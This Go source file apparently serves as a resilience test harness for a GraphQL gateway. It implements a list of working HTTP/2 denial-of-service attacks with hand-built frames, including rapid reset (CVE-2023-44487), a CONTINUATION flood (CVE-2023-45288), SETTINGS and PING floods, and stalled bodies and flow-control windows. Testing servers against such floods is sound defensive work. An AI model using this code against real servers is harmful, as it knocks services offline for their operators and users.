package hostile

import (
	"context"
	"encoding/binary"
	"io"
	"net"
	"strings"
	"time"
)

// A Stream is a way to attack a gateway over HTTP/2 without TLS. Run continues until its context is
// done.
type Stream struct {
	Name string
	Run  func(ctx context.Context, address string)
}

// Streams are the known attacks. Each runs into a bound.
var Streams = []Stream{
	{"rapid reset", onStreams(func(f frames) { // CVE-2023-44487
		for id := uint32(1); f.ok() && id < 20_000; id += 2 {
			f.write(headersFrame, endStream|endHeaders, id, getHeaders("{wait}"))
			f.write(resetFrame, 0, id, make([]byte, 4))
		}
	})},
	{"more streams than allowed", onStreams(func(f frames) {
		for id := uint32(1); f.ok() && id < 2_000; id += 2 {
			f.write(headersFrame, endStream|endHeaders, id, getHeaders("{wait}"))
		}
	})},
	{"headers without end", onStreams(func(f frames) { // CVE-2023-45288
		f.write(headersFrame, 0, 1, getHeaders("{wait}"))
		for f.ok() {
			f.write(continuationFrame, 0, 1, header("x", strings.Repeat("x", 10_000)))
		}
	})},
	{"long headers", onStreams(func(f frames) {
		for id := uint32(1); f.ok() && id < 400; id += 2 {
			f.write(headersFrame, 0, id, getHeaders("{wait}"))
			for range 6 {
				f.write(continuationFrame, 0, id, header("x", strings.Repeat("x", 10_000)))
			}
			f.write(continuationFrame, endHeaders, id, nil)
		}
	})},
	{"settings again and again", onStreams(func(f frames) {
		for f.ok() {
			f.write(settingsFrame, 0, 0, nil)
		}
	})},
	{"pings", onStreams(func(f frames) {
		for f.ok() {
			f.write(pingFrame, 0, 0, make([]byte, 8))
		}
	})},
	{"empty data", onStreams(func(f frames) {
		f.write(headersFrame, endHeaders, 1, postHeaders("100"))
		for f.ok() {
			f.write(dataFrame, 0, 1, nil)
		}
	})},
	{"bodies that do not end", onStreams(func(f frames) {
		for id := uint32(1); f.ok() && id < 200; id += 2 {
			f.write(headersFrame, endHeaders, id, postHeaders("200000"))
			f.write(dataFrame, 0, id, []byte(`{"query":"`+strings.Repeat(" ", 600)))
		}
		f.wait(100 * time.Millisecond)
	})},
	{"answers that nobody takes", onStreams(func(f frames) {
		f.write(settingsFrame, 0, 0, []byte{0, 4, 0, 0, 0, 0}) // SETTINGS_INITIAL_WINDOW_SIZE 0
		for id := uint32(1); f.ok() && id < 200; id += 2 {
			f.write(headersFrame, endStream|endHeaders, id, getHeaders("{big}"))
		}
		f.wait(100 * time.Millisecond)
	})},
}

// The frames of RFC 9113 and their flags.
const (
	dataFrame, headersFrame, resetFrame, settingsFrame, pingFrame, continuationFrame = 0, 1, 3, 4, 6, 9

	endStream, endHeaders = 1, 4
)

// frames are what an attacker sends on one connection; what comes back is thrown away.
type frames struct {
	ctx    context.Context
	conn   net.Conn
	closed *bool
}

// onStreams opens one connection after another and does something on it.
func onStreams(attack func(frames)) func(ctx context.Context, address string) {
	return func(ctx context.Context, address string) {
		repeatedly(ctx, func() {
			dialer := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.IPv4(127, 0, 0, 2)}} // with bounds of its own
			conn, err := dialer.DialContext(ctx, "tcp", address)
			if err != nil {
				return
			}
			defer conn.Close()
			go func() { _, _ = io.Copy(io.Discard, conn) }()
			f := frames{ctx, conn, new(bool)}
			_, _ = io.WriteString(conn, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
			f.write(settingsFrame, 0, 0, nil)
			attack(f)
		})
	}
}

// ok: the connection is still open.
func (f frames) ok() bool { return !*f.closed && f.ctx.Err() == nil }

func (f frames) write(kind, flags byte, stream uint32, payload []byte) {
	frame := binary.BigEndian.AppendUint32(nil, uint32(len(payload))<<8|uint32(kind))
	frame = binary.BigEndian.AppendUint32(append(frame, flags), stream)
	_ = f.conn.SetWriteDeadline(time.Now().Add(time.Second))
	if _, err := f.conn.Write(append(frame, payload...)); err != nil {
		*f.closed = true
	}
}

func (f frames) wait(d time.Duration) {
	select {
	case <-f.ctx.Done():
	case <-time.After(d):
	}
}

// getHeaders are the headers of a query by GET.
func getHeaders(query string) []byte {
	return append(pseudo("GET", "/graphql?query="+query), header("accept", "*/*")...)
}

// postHeaders are those of a query by POST with a body of a length.
func postHeaders(length string) []byte {
	h := append(pseudo("POST", "/graphql"), header("content-type", "application/json")...)
	return append(h, header("content-length", length)...)
}

func pseudo(method, path string) []byte {
	h := append(header(":method", method), header(":scheme", "http")...)
	return append(append(h, header(":authority", "kith")...), header(":path", path)...)
}

// header is a header as HPACK has it literally, neither compressed nor remembered (RFC 7541, section 6.2.2).
func header(name, value string) []byte {
	h := append(length([]byte{0}, len(name)), name...)
	return append(length(h, len(value)), value...)
}

// length is an integer with a prefix of 7 bits (RFC 7541, section 5.1).
func length(to []byte, n int) []byte {
	if n < 127 {
		return append(to, byte(n))
	}
	return binary.AppendUvarint(append(to, 127), uint64(n-127))
}
